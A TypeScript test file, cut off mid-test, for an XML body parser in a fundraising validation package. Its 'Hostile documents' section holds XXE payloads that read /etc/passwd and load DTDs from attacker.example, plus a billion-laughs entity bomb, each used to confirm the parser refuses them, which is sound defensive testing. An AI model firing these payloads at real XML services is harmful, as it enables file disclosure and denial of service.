/**
 * The XML entry (`fundraising-rules/xml`): the service's XML request bodies
 * read as the payload objects the validators take (contract section 8,
 * service-api.md "Formats" and the XML notes of each resource).
 */
import { readdirSync, readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { optionsFromContext } from '../src/cli/context.js';
import { forbiddenCharacterAt, parseAccountXml, parsePageXml, XmlBodyError } from '../src/formats/xml.js';
import { accountFields, pageFields, validateAccount, validatePage } from '../src/index.js';

// ---------------------------------------------------------------------------
// Helpers

/** Calls `read` and returns the XmlBodyError it throws; fails when it returns or throws anything else. */
function refusal(read: () => unknown): XmlBodyError {
  let returned: unknown;
  try {
    returned = read();
  } catch (error) {
    expect(error).toBeInstanceOf(XmlBodyError);
    expect((error as Error).name).toBe('XmlBodyError');
    expect((error as Error).message.length).toBeGreaterThan(0);
    return error as XmlBodyError;
  }
  throw new Error(`expected an XmlBodyError, but the reader returned ${JSON.stringify(returned)}`);
}

const LINE_COLUMN = /line \d+, column \d+/;

const account = (inner: string): string => `<fundraiserAccount>${inner}</fundraiserAccount>`;
const page = (inner: string): string => `<fundraiserpage>${inner}</fundraiserpage>`;

/** Each text of a single-element account, read back. */
const accountText = (field: string, xmlText: string): unknown =>
  (parseAccountXml(account(`<${field}>${xmlText}</${field}>`)) as Record<string, unknown>)[field];

// ---------------------------------------------------------------------------
// A serializer written here, independent of the package: objects to the service's XML.

const ESCAPES: Record<string, string> = {
  '&': '&amp;',
  '<': '&lt;',
  '>': '&gt;',
  '"': '&quot;',
  "'": '&apos;',
  '\r': '&#13;',
};
const escapeXml = (text: string): string => text.replace(/[&<>"'\r]/g, (character) => ESCAPES[character] ?? character);

interface Layout {
  /** Lay elements out on lines with indentation (white space the reader must ignore). */
  pretty: boolean;
  /** Element names for keys (charitySplits is written charitysplits). */
  names: Record<string, string>;
}

function elementsOf(key: string, value: unknown, layout: Layout, depth: number): string[] {
  const name = layout.names[key] ?? key;
  if (value === undefined || value === null) return [];
  if (Array.isArray(value)) return value.flatMap((entry) => elementsOf(key, entry, layout, depth));
  if (typeof value === 'object') return [objectElement(name, value as Record<string, unknown>, layout, depth)];
  return [`<${name}>${escapeXml(String(value))}</${name}>`];
}

function objectElement(name: string, value: Record<string, unknown>, layout: Layout, depth: number): string {
  const children = Object.entries(value).flatMap(([key, inner]) => elementsOf(key, inner, layout, depth + 1));
  if (children.length === 0) return `<${name}/>`;
  if (!layout.pretty) return `<${name}>${children.join('')}</${name}>`;
  const indent = '  '.repeat(depth + 1);
  return `<${name}>\n${children.map((child) => `${indent}${child}`).join('\n')}\n${'  '.repeat(depth)}</${name}>`;
}

/** An account as the service's XML: root fundraiserAccount, one fundraiserCustomCode element per code. */
function accountToXml(body: Record<string, unknown>, pretty = false): string {
  return `${pretty ? '<?xml version="1.0" encoding="UTF-8"?>\n' : ''}${objectElement('fundraiserAccount', body, { pretty, names: {} }, 0)}`;
}

/** A page as the service's XML: root fundraiserpage, one charitysplits element per split, one customCodes element per code. */
function pageToXml(body: Record<string, unknown>, pretty = false): string {
  return `${pretty ? '<?xml version="1.0" encoding="UTF-8"?>\n' : ''}${objectElement('fundraiserpage', body, { pretty, names: { charitySplits: 'charitysplits' } }, 0)}`;
}

/** What XML can carry of a JSON body: every number becomes its string. */
function asXmlStrings(value: unknown): unknown {
  if (typeof value === 'number') return String(value);
  if (Array.isArray(value)) return value.map(asXmlStrings);
  if (typeof value === 'object' && value !== null) {
    return Object.fromEntries(Object.entries(value).map(([key, inner]) => [key, asXmlStrings(inner)]));
  }
  return value;
}

function hasNumber(value: unknown): boolean {
  if (typeof value === 'number') return true;
  if (Array.isArray(value)) return value.some(hasNumber);
  if (typeof value === 'object' && value !== null) return Object.values(value).some(hasNumber);
  return false;
}

// ---------------------------------------------------------------------------
// Every documented field

/** The single-valued fields of each operation (the repeating ones, `[]` in the tables, are written apart). */
const ACCOUNT_FIELDS = accountFields.filter((field) => !field.endsWith('[]'));
const PAGE_FIELDS = pageFields.filter((field) => !field.endsWith('[]'));

describe('parseAccountXml: every documented account field', () => {
  it('reads each field of the account table under its own name, as the string it was', () => {
    const body = Object.fromEntries(ACCOUNT_FIELDS.map((field, index) => [field, `${field}-${index}`]));
    const xml = account(
      `${ACCOUNT_FIELDS.map((field) => `<${field}>${field}-${ACCOUNT_FIELDS.indexOf(field)}</${field}>`).join('')}<fundraiserCustomCode>RUN-2026</fundraiserCustomCode>`,
    );
    expect(parseAccountXml(xml)).toStrictEqual({ ...body, fundraiserCustomCode: ['RUN-2026'] });
  });

  it("keeps values exactly: leading zeros, digits, spaces at either end, an empty element as ''", () => {
    const xml = account(
      '<preferredTelephone>007</preferredTelephone><dateOfBirth>01012000</dateOfBirth><surname>  Lovelace </surname>' +
        '<forename></forename><postcode/><title>\tMs\n</title><countryCode>  </countryCode><termsAndConditionsAccepted>Y </termsAndConditionsAccepted>',
    );
    expect(parseAccountXml(xml)).toStrictEqual({
      preferredTelephone: '007',
      dateOfBirth: '01012000',
      surname: '  Lovelace ',
      forename: '',
      postcode: '',
      title: '\tMs\n',
      countryCode: '  ',
      termsAndConditionsAccepted: 'Y ',
    });
  });

  it('never turns text into numbers or booleans', () => {
    const read = parseAccountXml(
      account(
        '<preferredTelephone>1e3</preferredTelephone><dateOfBirth>20000101</dateOfBirth><surname>true</surname><forename>null</forename><title>0x10</title>',
      ),
    );
    expect(read).toStrictEqual({
      preferredTelephone: '1e3',
      dateOfBirth: '20000101',
      surname: 'true',
      forename: 'null',
      title: '0x10',
    });
  });

  it('reads an empty root as an object with no fields', () => {
    expect(parseAccountXml('<fundraiserAccount/>')).toStrictEqual({});
    expect(parseAccountXml('<fundraiserAccount></fundraiserAccount>')).toStrictEqual({});
  });

  it('accepts an XML declaration, comments and CDATA', () => {
    const xml =
      '<?xml version="1.0" encoding="UTF-8"?>\n<!-- a request -->\n<fundraiserAccount><surname><![CDATA[O<Brien]]></surname><!-- c --><title>Mr</title></fundraiserAccount>\n';
    expect(parseAccountXml(xml)).toStrictEqual({ surname: 'O<Brien', title: 'Mr' });
  });

  it('accepts a byte-order mark before the root and before an XML declaration (a file read as UTF-8 keeps it)', () => {
    expect(parseAccountXml('\uFEFF<fundraiserAccount><title>Mr</title></fundraiserAccount>')).toStrictEqual({
      title: 'Mr',
    });
    expect(
      parseAccountXml(
        '\uFEFF<?xml version="1.0" encoding="UTF-8"?>\n<fundraiserAccount><title>Mr</title></fundraiserAccount>',
      ),
    ).toStrictEqual({ title: 'Mr' });
  });

  it('keeps the text of a CDATA section as written: no entity is decoded inside it', () => {
    expect(accountText('surname', '<![CDATA[Smith &amp; Sons]]>')).toBe('Smith &amp; Sons');
    expect(accountText('surname', '<![CDATA[a&nbsp;b]]>')).toBe('a&nbsp;b');
  });
});

describe('parsePageXml: every documented page and split field', () => {
  it('reads each field of the page table, and each field of a split, as the string it was', () => {
    const fields = PAGE_FIELDS.map((field, index) => `<${field}>${field}-${index}</${field}>`).join('');
    const xml = page(
      `${fields}<charitysplits><charityResourceId>c-1</charityResourceId><charitySplitPercent>060</charitySplitPercent><customCodes>SWIM</customCodes></charitysplits>`,
    );
    expect(parsePageXml(xml)).toStrictEqual({
      ...Object.fromEntries(PAGE_FIELDS.map((field, index) => [field, `${field}-${index}`])),
      charitySplits: [{ charityResourceId: 'c-1', charitySplitPercent: '060', customCodes: ['SWIM'] }],
    });
  });

  it("keeps values exactly: '039', '03', spaces, empty elements", () => {
    const xml = page(
      '<activityCode>039</activityCode><postEventFundraisingInterval>03</postEventFundraisingInterval><pageTitle> My page </pageTitle><teamName></teamName><teamUrl/>' +
        '<charitysplits><charitySplitPercent> 100</charitySplitPercent><charityResourceId></charityResourceId></charitysplits>',
    );
    expect(parsePageXml(xml)).toStrictEqual({
      activityCode: '039',
      postEventFundraisingInterval: '03',
      pageTitle: ' My page ',
      teamName: '',
      teamUrl: '',
      charitySplits: [{ charitySplitPercent: ' 100', charityResourceId: '' }],
    });
  });

  it('reads the splits only under the JSON key charitySplits (never charitysplits)', () => {
    const read = parsePageXml(
      page('<charitysplits><charityResourceId>c</charityResourceId></charitysplits>'),
    ) as Record<string, unknown>;
    expect(Object.keys(read)).toEqual(['charitySplits']);
    expect(Object.hasOwn(read, 'charitysplits')).toBe(false);
  });
});

describe('entities and character references', () => {
  it('decodes the five predefined entities', () => {
    expect(accountText('surname', '&amp;&lt;&gt;&quot;&apos;')).toBe('&<>"\'');
    expect(accountText('surname', 'O&apos;Brien &amp; Sons')).toBe("O'Brien & Sons");
  });

  it('decodes decimal and hexadecimal character references, astral ones included', () => {
    expect(accountText('surname', '&#65;&#x42;&#x0043;&#x1F600;&#128512;&#233;')).toBe('ABC😀😀é');
    expect(accountText('surname', '&#9;&#10;&#32;x&#13;')).toBe('\t\n x\r');
  });

  it('decodes once: &amp;lt; is the text "&lt;", not "<"', () => {
    expect(accountText('surname', '&amp;lt;&amp;nbsp;')).toBe('&lt;&nbsp;');
  });

  it('decodes references in repeating elements and inside splits too', () => {
    expect(
      parseAccountXml(
        account(
          '<fundraiserCustomCode>A&amp;B</fundraiserCustomCode><fundraiserCustomCode>&#x43;</fundraiserCustomCode>',
        ),
      ),
    ).toStrictEqual({ fundraiserCustomCode: ['A&B', 'C'] });
    expect(
      parsePageXml(
        page(
          '<charitysplits><charityResourceId>&lt;c&gt;</charityResourceId><customCodes>&quot;q&quot;</customCodes></charitysplits>',
        ),
      ),
    ).toStrictEqual({
      charitySplits: [{ charityResourceId: '<c>', customCodes: ['"q"'] }],
    });
  });

  it.each(['&nbsp;', '&copy;', '&AMP;', '&Amp;', '&xxe;', '&eacute;'])(
    'refuses the undeclared entity %s, naming it',
    (reference) => {
      const error = refusal(() => parseAccountXml(account(`<surname>a${reference}b</surname>`)));
      expect(error.message).toContain(reference);
      refusal(() => parsePageXml(page(`<charitysplits><customCodes>${reference}</customCodes></charitysplits>`)));
    },
  );

  it.each(['&#0;', '&#x0;', '&#xD800;', '&#xDFFF;', '&#x110000;', '&#1114112;', '&#99999999;', '&#x1234567;'])(
    'refuses the reference %s, which is no character',
    (reference) => {
      refusal(() => parseAccountXml(account(`<surname>a${reference}</surname>`)));
    },
  );

  it('refuses a bare ampersand and an unterminated reference', () => {
    for (const text of ['a & b', 'a &amp b', 'AT&T'])
      refusal(() => parseAccountXml(account(`<surname>${text}</surname>`)));
  });
});

// ---------------------------------------------------------------------------
// Repetition

describe('repeating elements', () => {
  it('reads one fundraiserCustomCode as an array of one, many as an array in document order', () => {
    expect(parseAccountXml(account('<fundraiserCustomCode>A</fundraiserCustomCode>'))).toStrictEqual({
      fundraiserCustomCode: ['A'],
    });
    expect(
      parseAccountXml(
        account(
          '<fundraiserCustomCode>A</fundraiserCustomCode><title>Mr</title><fundraiserCustomCode></fundraiserCustomCode><fundraiserCustomCode> C </fundraiserCustomCode>',
        ),
      ),
    ).toStrictEqual({
      fundraiserCustomCode: ['A', '', ' C '],
      title: 'Mr',
    });
  });

  it('reads six custom codes as six entries (so 002.01.23 can fire on an XML body)', () => {
    const xml = account(
      ['1', '2', '3', '4', '5', '6'].map((code) => `<fundraiserCustomCode>${code}</fundraiserCustomCode>`).join(''),
    );
    const read = parseAccountXml(xml) as { fundraiserCustomCode: string[] };
    expect(read.fundraiserCustomCode).toEqual(['1', '2', '3', '4', '5', '6']);
    expect(validateAccount(read).codes).toContain('002.01.23');
  });

  it('reads one charitysplits element as an array of one split, many as many', () => {
    const one = parsePageXml(
      page(
        '<charitysplits><charityResourceId>c1</charityResourceId><charitySplitPercent>100</charitySplitPercent></charitysplits>',
      ),
    );
    expect(one).toStrictEqual({ charitySplits: [{ charityResourceId: 'c1', charitySplitPercent: '100' }] });
    const three = parsePageXml(
      page(
        '<charitysplits><charityResourceId>c1</charityResourceId><charitySplitPercent>50</charitySplitPercent></charitysplits>' +
          '<pageTitle>T</pageTitle>' +
          '<charitysplits><charityResourceId>c2</charityResourceId></charitysplits>' +
          '<charitysplits><charitySplitPercent>50</charitySplitPercent></charitysplits>',
      ),
    );
    expect(three).toStrictEqual({
      charitySplits: [
        { charityResourceId: 'c1', charitySplitPercent: '50' },
        { charityResourceId: 'c2' },
        { charitySplitPercent: '50' },
      ],
      pageTitle: 'T',
    });
  });

  it('reads one customCodes element of a split as an array of one, many as many, per split', () => {
    const read = parsePageXml(
      page(
        '<charitysplits><charityResourceId>c1</charityResourceId><customCodes>A</customCodes></charitysplits>' +
          '<charitysplits><charityResourceId>c2</charityResourceId><customCodes>B</customCodes><customCodes></customCodes><customCodes>D</customCodes></charitysplits>' +
          '<charitysplits><charityResourceId>c3</charityResourceId></charitysplits>',
      ),
    );
    expect(read).toStrictEqual({
      charitySplits: [
        { charityResourceId: 'c1', customCodes: ['A'] },
        { charityResourceId: 'c2', customCodes: ['B', '', 'D'] },
        { charityResourceId: 'c3' },
      ],
    });
  });

  it('reads an empty <charitysplits/> (and <charitysplits></charitysplits>) as a split with no fields, {}', () => {
    expect(parsePageXml(page('<charitysplits/>'))).toStrictEqual({ charitySplits: [{}] });
    expect(parsePageXml(page('<charitysplits></charitysplits><charitysplits/>'))).toStrictEqual({
      charitySplits: [{}, {}],
    });
  });

  it('reads a charitysplits element holding only layout white space as {}, like an empty one', () => {
    expect(parsePageXml(page('<charitysplits>\n  </charitysplits>'))).toStrictEqual({ charitySplits: [{}] });
  });

  it('reads an account root holding only layout white space as {}, like an empty one', () => {
    expect(parseAccountXml('<fundraiserAccount>\n</fundraiserAccount>')).toStrictEqual({});
    expect(parsePageXml('<fundraiserpage>\n  \n</fundraiserpage>')).toStrictEqual({});
  });

  it('ignores the white space that lays elements out, but keeps it inside values', () => {
    const xml = [
      '<?xml version="1.0"?>',
      '<fundraiserpage>',
      '  <pageTitle>  Spaced  </pageTitle>',
      '  <charitysplits>',
      '    <charityResourceId>c1</charityResourceId>',
      '    <customCodes>A</customCodes>',
      '    <customCodes> B </customCodes>',
      '  </charitysplits>',
      '\t<charitysplits>\r\n\t\t<charitySplitPercent>40</charitySplitPercent>\r\n\t</charitysplits>',
      '</fundraiserpage>',
      '',
    ].join('\n');
    expect(parsePageXml(xml)).toStrictEqual({
      pageTitle: '  Spaced  ',
      charitySplits: [{ charityResourceId: 'c1', customCodes: ['A', ' B '] }, { charitySplitPercent: '40' }],
    });
    const accountXml =
      '<fundraiserAccount>\n  <title>Ms</title>\n  <fundraiserCustomCode>X</fundraiserCustomCode>\n  <fundraiserCustomCode>Y</fundraiserCustomCode>\n</fundraiserAccount>';
    expect(parseAccountXml(accountXml)).toStrictEqual({ title: 'Ms', fundraiserCustomCode: ['X', 'Y'] });
  });

  it('does not read fundraiserCustomCode as repeating inside a page, nor customCodes at the account root', () => {
    // The repeating names belong to their own shape and place.
    expect(parseAccountXml(account('<customCodes>A</customCodes>'))).toStrictEqual({ customCodes: 'A' });
    expect(parsePageXml(page('<customCodes>A</customCodes>'))).toStrictEqual({ customCodes: 'A' });
  });
});

// ---------------------------------------------------------------------------
// Round trip through XML

const examplesDir = new URL('../examples/', import.meta.url);
const readJson = (name: string): unknown => JSON.parse(readFileSync(new URL(name, examplesDir), 'utf8'));
const exampleNames = readdirSync(examplesDir)
  .filter((name) => name.endsWith('.json'))
  .sort();
const accountExamples = exampleNames.filter((name) => name.startsWith('account-'));
const pageExamples = exampleNames.filter((name) => name.startsWith('page-'));
const options = optionsFromContext(readJson('context.json'));

describe('the JSON examples, written as XML and read back', () => {
  it('finds the examples (so that the checks below are not vacuous)', () => {
    expect(accountExamples).toEqual(expect.arrayContaining(['account-valid.json', 'account-invalid.json']));
    expect(pageExamples.length).toBeGreaterThanOrEqual(2);
    expect(options.accountExists).toBeTypeOf('function');
    expect(options.personalUrlTaken).toBeTypeOf('function');
    expect(options.teamUrlTaken).toBeTypeOf('function');
  });

  for (const pretty of [false, true]) {
    const layout = pretty ? 'laid out on lines' : 'on one line';
    it.each(accountExamples)(`%s (${layout}) validates with validateAccount to the same result as the JSON`, (name) => {
      const json = readJson(name) as Record<string, unknown>;
      const read = parseAccountXml(accountToXml(json, pretty));
      expect(read).toStrictEqual(asXmlStrings(json));
      const fromJson = validateAccount(json, options);
      expect(validateAccount(read, options)).toStrictEqual(fromJson);
      // The examples say what they are: a non-trivial comparison.
      expect(fromJson.valid).toBe(name.endsWith('-valid.json'));
    });

    it.each(pageExamples)(`%s (${layout}) validates with validatePage to the same result as the JSON`, (name) => {
      const json = readJson(name) as Record<string, unknown>;
      const read = parsePageXml(pageToXml(json, pretty));
      expect(read).toStrictEqual(asXmlStrings(json));
      const fromJson = validatePage(json, options);
      expect(validatePage(read, options)).toStrictEqual(fromJson);
      expect(fromJson.valid).toBe(name.endsWith('-valid.json'));
    });
  }

  it('covers numeric JSON values: the examples with numbers give the same result once they are strings', () => {
    const withNumbers = [...accountExamples, ...pageExamples].filter((name) => hasNumber(readJson(name)));
    expect(withNumbers.length).toBeGreaterThan(0);
    for (const name of withNumbers) {
      const json = readJson(name);
      const validate = name.startsWith('account-') ? validateAccount : validatePage;
      expect(validate(asXmlStrings(json), options), name).toStrictEqual(validate(json, options));
    }
  });

  it('the serializer escapes & < > " \' so that every value survives', () => {
    const body = {
      surname: `O'Brien & <Sons> "Ltd"`,
      forename: '&amp; &nbsp; ]]>',
      fundraiserCustomCode: ['<a>', '&#65;'],
    };
    const xml = accountToXml(body);
    expect(xml).not.toContain('<a>');
    expect(parseAccountXml(xml)).toStrictEqual(body);
  });
});

/** One character XML 1.0 can carry (no C0 controls but tab, LF, CR; no surrogate halves; no U+FFFE/U+FFFF). */
const XML_CHAR = /^[\t\n\r\u0020-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]$/u;
const xmlUnit = fc.oneof(
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      '&',
      '<',
      '>',
      '"',
      "'",
      ';',
      '#',
      ' ',
      '\t',
      '\n',
      '\r',
      '&amp;',
      '&nbsp;',
      '&#65;',
      ']]>',
      '<!--',
      '😀',
      'é',
      '0',
    ),
  },
  {
    weight: 3,
    arbitrary: fc
      .string({ unit: 'binary', minLength: 1, maxLength: 1 })
      .filter((character) => XML_CHAR.test(character)),
  },
);
const xmlString = fc.string({ unit: xmlUnit, maxLength: 12 });

describe('round trip properties', () => {
  const accountArbitrary = fc.record(
    {
      ...Object.fromEntries(ACCOUNT_FIELDS.map((field) => [field, xmlString])),
      fundraiserCustomCode: fc.array(xmlString, { minLength: 1, maxLength: 7 }),
    },
    { requiredKeys: [], noNullPrototype: true },
  );

  it('any account over the account fields (string values, custom codes as an array) reads back deep-equal', () => {
    fc.assert(
      fc.property(accountArbitrary, fc.boolean(), (body, pretty) => {
        expect(parseAccountXml(accountToXml(body, pretty))).toStrictEqual(body);
      }),
      { numRuns: 300 },
    );
  });

  it('any page over the page fields, with splits and their custom codes, reads back deep-equal', () => {
    const split = fc.record(
      {
        charityResourceId: xmlString,
        charitySplitPercent: xmlString,
        customCodes: fc.array(xmlString, { minLength: 1, maxLength: 6 }),
      },
      { requiredKeys: [], noNullPrototype: true },
    );
    const pageArbitrary = fc.record(
      {
        ...Object.fromEntries(PAGE_FIELDS.map((field) => [field, xmlString])),
        charitySplits: fc.array(split, { minLength: 1, maxLength: 6 }),
      },
      { requiredKeys: [], noNullPrototype: true },
    );
    fc.assert(
      fc.property(pageArbitrary, fc.boolean(), (body, pretty) => {
        expect(parsePageXml(pageToXml(body, pretty))).toStrictEqual(body);
      }),
      { numRuns: 300 },
    );
  });
});

// ---------------------------------------------------------------------------
// Hostile documents

describe('DOCTYPE and entity declarations are refused before parsing', () => {
  const laughs = [
    '<?xml version="1.0"?>',
    '<!DOCTYPE lolz [',
    ' <!ENTITY lol "lol">',
    ...Array.from(
      { length: 9 },
      (_, level) => ` <!ENTITY lol${level + 1} "${`&lol${level === 0 ? '' : level};`.repeat(10)}">`,
    ),
    ']>',
    '<fundraiserAccount><surname>&lol9;</surname></fundraiserAccount>',
  ].join('\n');

  const documents: [string, string][] = [
    [
      'an internal subset with an entity definition',
      '<!DOCTYPE fundraiserAccount [<!ENTITY name "Ada">]><fundraiserAccount><forename>&name;</forename></fundraiserAccount>',
    ],
    ['billion laughs', laughs],
    [
      'an external SYSTEM entity',
      '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><fundraiserAccount><surname>&xxe;</surname></fundraiserAccount>',
    ],
    ['an external DTD', '<!DOCTYPE fundraiserAccount SYSTEM "http://attacker.example/evil.dtd"><fundraiserAccount/>'],
    [
      'a parameter entity',
      '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><fundraiserAccount/>',
    ],
    ['a lower-case doctype', '<!doctype fundraiserAccount><fundraiserAccount/>'],
    ['a bare DOCTYPE', '<!DOCTYPE fundraiserAccount><fundraiserAccount><title>Mr</title></fundraiserAccount>'],
  ];

  it.each(documents)('%s: XmlBodyError naming DOCTYPE/ENTITY, for both readers', (_name, xml) => {
    expect(refusal(() => parseAccountXml(xml)).message).toMatch(/DOCTYPE|ENTITY/);
    expect(refusal(() => parsePageXml(xml.replaceAll('fundraiserAccount', 'fundraiserpage'))).message).toMatch(
      /DOCTYPE|ENTITY/,
    );
  });

  it('refuses the declaration before parsing: a DOCTYPE in a document that is also malformed is reported as the DOCTYPE, not a line/column', () => {
    const error = refusal(() =>
      parseAccountXml('<!DOCTYPE a [<!ENTITY e "x">]><fundraiserAccount><title>&e;</fundraiserAccount>'),
    );
    expect(error.message).toMatch(/DOCTYPE|ENTITY/);
    expect(error.message).not.toMatch(LINE_COLUMN);
  });

  it('billion laughs costs nothing: refused at once', () => {
    const started = performance.now();
    refusal(() => parseAccountXml(laughs));
    expect(performance.now() - started).toBeLessThan(1000);
  });
});

describe('characters XML 1.0 does not allow', () => {
  it.each([
    ['U+0000 in a name', account('<surname>Tu\u0000ring</surname>'), '0000'],
    ['a form feed', account('<surname>Tu\u000cring</surname>'), '000C'],
    ['a lone high surrogate', account('<surname>\uD800</surname>'), 'D800'],
    ['a lone low surrogate', account('<surname>a\uDC00</surname>'), 'DC00'],
    ['U+FFFE', account('<surname>\uFFFE</surname>'), 'FFFE'],
  ])('%s makes the document malformed, naming the character', (_name, xml, code) => {
    expect(refusal(() => parseAccountXml(xml)).message).toMatch(new RegExp(`U\\+${code}`));
  });

  it('tab, line feed, carriage return and a surrogate pair are characters', () => {
    // XML reads a CR LF as one LF.
    expect(parseAccountXml(account('<surname>T\tu\r\nr 😀</surname>'))).toMatchObject({ surname: 'T\tu\nr 😀' });
  });

  it('finds the first forbidden character exactly where a reference reading finds it (property)', () => {
    const allowed = (code: number) =>
      code === 0x9 ||
      code === 0xa ||
      code === 0xd ||
      (code >= 0x20 && code <= 0xd7ff) ||
      (code >= 0xe000 && code <= 0xfffd) ||
      code >= 0x10000;
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 12 }), (text) => {
        let expected = -1;
        for (let at = 0; at < text.length; ) {
          const point = text.codePointAt(at) as number;
          const lone = point >= 0xd800 && point <= 0xdfff;
          if (lone || !allowed(point)) {
            expected = at;
            break;
          }
          at += point > 0xffff ? 2 : 1;
        }
        expect(forbiddenCharacterAt(text)).toBe(expected);
      }),
    );
  });
});

describe('malformed XML', () => {
  const documents: [string, string][] = [
    ['an unclosed tag', account('<title>Mr')],
    ['an unclosed root', '<fundraiserAccount><title>Mr</title>'],
    ['crossed tags', account('<title><surname>x</title></surname>')],
    [
      'a mismatched close tag, on line 4',
      '<fundraiserAccount>\n<title>\nx</title>\n<surname>y</title></fundraiserAccount>',
    ],
    ['text before the root', 'junk<fundraiserAccount/>'],
    ['an attribute without a value', '<fundraiserAccount a=b/>'],
    ['an attribute without quotes', account('<title lang=en>Mr</title>')],
    ['an attribute with an open quote', account('<title a="1>Mr</title>')],
    ['a repeated attribute', '<fundraiserAccount a="1" a="2"/>'],
    ['an invalid element name', account('<1title>x</1title>')],
  ];

  it.each(documents)('%s: XmlBodyError with the line and column', (_name, xml) => {
    expect(refusal(() => parseAccountXml(xml)).message).toMatch(LINE_COLUMN);
  });

  it('points at the line of the fault', () => {
    expect(
      refusal(() => parseAccountXml('<fundraiserAccount>\n<title>\nx</title>\n<surname>y</title></fundraiserAccount>'))
        .message,
    ).toMatch(/line 4, column \d+/);
  });

  const afterTheRoot: [string, string][] = [
    ['two roots of the same name', '<fundraiserAccount/><fundraiserAccount/>'],
    [
      'two roots with fields',
      '<fundraiserAccount><title>Mr</title></fundraiserAccount><fundraiserAccount><title>Ms</title></fundraiserAccount>',
    ],
    [
      'a second, empty root after a full one',
      '<fundraiserAccount><title>Mr</title></fundraiserAccount><fundraiserAccount/>',
    ],
    ['two different roots', '<fundraiserAccount/><fundraiserpage/>'],
    ['text after the root', '<fundraiserAccount><title>Mr</title></fundraiserAccount>junk'],
    ['an element after the root', '<fundraiserAccount><title>Mr</title></fundraiserAccount><title>Ms</title>'],
  ];

  it.each(afterTheRoot)('%s: refused with XmlBodyError (a document has exactly one root)', (_name, xml) => {
    refusal(() => parseAccountXml(xml));
    const swapped = xml.replace(/fundraiserAccount|fundraiserpage/g, (root) =>
      root === 'fundraiserAccount' ? 'fundraiserpage' : 'fundraiserAccount',
    );
    refusal(() => parsePageXml(swapped));
  });

  // A fault of the document as a whole has no one place: its reason names the root instead.
  it.each(afterTheRoot)('%s: the reason gives the line and column, or names the root elements', (_name, xml) => {
    expect(refusal(() => parseAccountXml(xml)).message).toMatch(new RegExp(`${LINE_COLUMN.source}|root element`));
  });

  it.each([
    ['the empty string', ''],
    ['white space only', ' \n '],
  ])('%s: XmlBodyError saying the document is empty', (_name, text) => {
    expect(refusal(() => parseAccountXml(text)).message).toBe('the document is empty');
  });

  it.each([
    ['plain text', 'hello'],
    ['a JSON body', '{"title":"Mr"}'],
  ])('%s: XmlBodyError with a line and column that are numbers', (_name, text) => {
    const error = refusal(() => parseAccountXml(text));
    expect(error.message).not.toContain('undefined');
    expect(error.message).toMatch(LINE_COLUMN);
  });

  it('every proper prefix of a well-formed body is refused (never a partial payload)', () => {
    const xml = pageToXml(
      {
        pageTitle: 'Swim',
        charitySplits: [{ charityResourceId: 'c1', customCodes: ['A', 'B'] }, { charitySplitPercent: '100' }],
      },
      true,
    );
    expect(parsePageXml(xml)).toStrictEqual({
      pageTitle: 'Swim',
      charitySplits: [{ charityResourceId: 'c1', customCodes: ['A', 'B'] }, { charitySplitPercent: '100' }],
    });
    const end = xml.lastIndexOf('</fundraiserpage>');
    for (let length = 0; length <= end; length++) refusal(() => parsePageXml(xml.slice(0, length)));
  });

  it('a body that is not a string is a programmer error (TypeError), not an XML fault', () => {
    expect(() => parseAccountXml(42 as unknown as string)).toThrow(TypeError);
    expect(() => parsePageXml({} as unknown as string)).toThrow(TypeError);
  });
});

describe('the root element', () => {
  it('refuses a page body given to parseAccountXml, naming the root it wants', () => {
    const xml = pageToXml({ pageTitle: 'Swim', charitySplits: [{ charityResourceId: 'c1' }] });
    expect(refusal(() => parseAccountXml(xml)).message).toContain('fundraiserAccount');
  });

  it('refuses an account body given to parsePageXml, naming the root it wants', () => {
    const xml = accountToXml({ title: 'Mr', fundraiserCustomCode: ['A'] });
    expect(refusal(() => parsePageXml(xml)).message).toContain('fundraiserpage');
  });

  it.each(['<fundraiseraccount/>', '<FundraiserAccount/>', '<fundraiser/>', '<account><title>Mr</title></account>'])(
    'refuses %s: the root name is case-sensitive and exact',
    (xml) => {
      refusal(() => parseAccountXml(xml));
    },
  );

  it.each(['<fundraiserPage/>', '<FundraiserPage/>', '<page/>'])('refuses %s as a page root', (xml) => {
    refusal(() => parsePageXml(xml));
  });
});

describe('size and depth limits', () => {
  const ofLength = (length: number): string => {
    const head = '<fundraiserAccount><surname>';
    const tail = '</surname></fundraiserAccount>';
    return `${head}${'x'.repeat(length - head.length - tail.length)}${tail}`;
  };

  it('accepts a document of exactly 1,048,576 characters and refuses one of 1,048,577, naming the limit', () => {
    expect((parseAccountXml(ofLength(1_048_576)) as { surname: string }).surname).toHaveLength(1_048_576 - 58);
    const error = refusal(() => parseAccountXml(ofLength(1_048_577)));
    expect(error.message).toContain('1048576');
    refusal(() => parsePageXml(`<fundraiserpage><pageTitle>${'x'.repeat(1_048_576)}</pageTitle></fundraiserpage>`));
  });

  it('refuses an oversized document before parsing it (a malformed one is refused for its size)', () => {
    const error = refusal(() => parseAccountXml(`<fundraiserAccount>${'<a>'.repeat(400_000)}`));
    expect(error.message).not.toMatch(LINE_COLUMN);
    expect(error.message).toContain('1048576');
  });

  it('honours the maxLength option, both ways', () => {
    expect(parseAccountXml(ofLength(100), { maxLength: 100 })).toStrictEqual({ surname: 'x'.repeat(42) });
    expect(refusal(() => parseAccountXml(ofLength(101), { maxLength: 100 })).message).toContain('100');
    refusal(() => parsePageXml('<fundraiserpage/>', { maxLength: 10 }));
    const big = ofLength(2_000_000);
    expect((parseAccountXml(big, { maxLength: 2_000_000 }) as { surname: string }).surname).toHaveLength(
      2_000_000 - 58,
    );
  });

  it.each([Number.NaN, 'big' as unknown as number])(
    'a nonsensical maxLength (%s) does not switch the limit off',
    (maxLength) => {
      expect(() => parseAccountXml(ofLength(1_048_577), { maxLength })).toThrow();
    },
  );

  it('reads moderately nested elements (a field holding elements is an object, which the validators report as the wrong type)', () => {
    const read = parseAccountXml(account('<title><a><b>x</b></a></title>'));
    expect(read).toStrictEqual({ title: { a: { b: 'x' } } });
    expect(
      validateAccount(read).issues.some((issue) => issue.code === 'wrong-type' && issue.path.join('.') === 'title'),
    ).toBe(true);
  });

  it.each([1_000, 100_000])(
    'refuses %i nested elements with XmlBodyError, quickly and without overflowing the stack',
    (depth) => {
      const started = performance.now();
